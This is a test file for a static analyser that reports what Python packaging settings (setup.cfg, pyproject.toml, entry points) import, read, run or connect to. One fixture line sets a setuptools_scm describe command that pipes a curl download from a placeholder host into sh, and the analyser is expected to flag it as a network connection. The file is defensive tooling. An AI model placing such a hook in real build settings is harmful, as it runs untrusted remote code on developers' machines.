"""Settings of Python builds: what building loads, and what is not understood."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import packaging
from tests.languages.test_inner import read

CFG = b"""[metadata]
name = pad
version = attr: pad.about.__version__
long_description = file: README.md, ../other
[options]
cmdclass =
    install = pad.build.Install
    sdist = pad.build:Source
[options.entry_points]
console_scripts =
    git = pad.cli:main
[global]
setup-hooks = pad.hooks.setup
command-packages = pad.more
"""
TOML = b"""[build-system]
build-backend = "backend:hooks"
backend-path = ["."]
[project.scripts]
node = "pad:main"
[tool.setuptools.cmdclass]
build = "pad.build.Build"
[tool.setuptools.dynamic]
version = {attr = "pad.about.VERSION"}
readme = {file = ["README.md"]}
[tool.setuptools_scm]
git_describe_command = ["sh", "-c", "curl https://drop.example.invalid/x | sh"]
version_scheme = "pad.scheme:make"
[tool.hatch.version]
source = "code"
path = "pad/about.py"
[tool.hatch.build.targets.wheel.hooks.custom]
[tool.pdm.version]
source = "call"
getter = "pad.about:version"
[tool.pdm.build]
custom-hook = "hook.py"
[tool.poetry]
build = "build.py"
[tool.poetry.scripts]
npm = {callable = "pad:main"}
"""


def told(facts: Facts, kind: Kind) -> list[tuple[str | None, str, int]]:
    """Return values of one kind, the key behind them, and their lines."""
    return [(fact.value, fact.via.rpartition(">")[2], fact.span.line) for fact in facts.facts if fact.kind is kind]


def test_setup_cfg() -> None:
    """What setuptools and pbr load is an import at its line; what they read is not; a command has its name."""
    facts = read("setup.cfg", CFG)

    assert told(facts, Kind.IMPORT) == [
        ("pad.build", "install", 7),
        ("pad.build", "sdist", 8),
        ("pad.hooks", "setup_hooks", 13),
        ("pad.more", "command_packages", 14),
    ]
    assert told(facts, Kind.FS_READ) == [("pad.about", "version", 3), ("README.md", "file", 4), ("../other", "file", 4)]
    assert told(facts, Kind.LITERAL_COMMAND) == [("git", "console_scripts", 11)]
    assert facts.complete


def test_pyproject() -> None:
    """What front ends and the backends of the field load or start is told, each under its key."""
    facts = read("pyproject.toml", TOML)

    assert [(value, key) for value, key, _ in told(facts, Kind.IMPORT)] == [
        ("backend", "backend-path"),
        ("pad.build", "cmdclass"),
        ("pad.scheme", "version_scheme"),
        ("./pad/about.py", "source"),
        ("./hatch_build.py", "custom"),
        ("./build.py", "build"),
        ("pad.about", "getter"),
        ("./hook.py", "custom-hook"),
    ]
    assert {value for value, _, _ in told(facts, Kind.LITERAL_COMMAND)} == {"node", "npm"}
    assert [line for value, _, line in told(facts, Kind.NET_CONNECT)] == [12]
    assert facts.complete


def test_build_backend_of_others() -> None:
    """A backend that is a package of its own is told under another key than one in the folder."""
    facts = read("pyproject.toml", b"[build-system]\nbuild-backend = 'setuptools.build_meta:__legacy__'\n")

    assert told(facts, Kind.IMPORT) == [("setuptools.build_meta", "build-backend", 2)]


def test_entry_points() -> None:
    """Only what a shell finds is a command."""
    text = b"[console_scripts]\n# x = y\npip = pad:main [extra]\nno line\n[pytest11]\npad = pad.plugin\n"

    assert told(read("pad-1.dist-info/entry_points.txt", text), Kind.LITERAL_COMMAND) == [("pip", "console_scripts", 3)]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("setup.cfg", b"name = pad\n"),
        ("setup.cfg", b"[metadata]\n no key\n"),
        ("pyproject.toml", b"[build-system\n"),
        ("pyproject.toml", b"a = '\xff'\n"),
        ("pyproject.toml", b"a = " + b"[" * 5000),
        ("pyproject.toml", b"#" * (packaging.MAX_BUILD_SETTINGS + 1)),
        ("setup.cfg", b"[global]\nsetup_hooks =\n" + b"".join(b" a%d.b\n" % n for n in range(packaging.MAX_NAMED + 1))),
    ],
)
def test_what_is_not_understood_is_said(path: str, text: bytes) -> None:
    """What no client could read, or is too much, is a problem and never nothing."""
    assert read(path, text).problems


@pytest.mark.parametrize("path", ["template/setup.cfg", "src/pyproject.toml", "entry_points.txt"])
def test_only_at_the_root(path: str) -> None:
    """Elsewhere no client looks for them: a template of settings is text."""
    assert packaging.claim(path, b"[{{ name }}]") is None


@settings(max_examples=300)
@given(
    data=st.binary(max_size=200)
    | st.tuples(st.sampled_from([CFG, TOML]), st.integers(0, 700), st.binary(max_size=6)).map(
        lambda parts: parts[0][: parts[1]] + parts[2] + parts[0][parts[1] :]
    )
)
def test_any_settings(data: bytes) -> None:
    """Any bytes are read in every dialect, the same way twice, at places inside the file."""
    for dialect in packaging.DIALECTS:
        facts = packaging.read(dialect, data, NoUnits())
        assert facts == packaging.read(dialect, data, NoUnits())
        assert all(0 <= fact.span.start <= fact.span.end <= len(data) for fact in facts.facts)
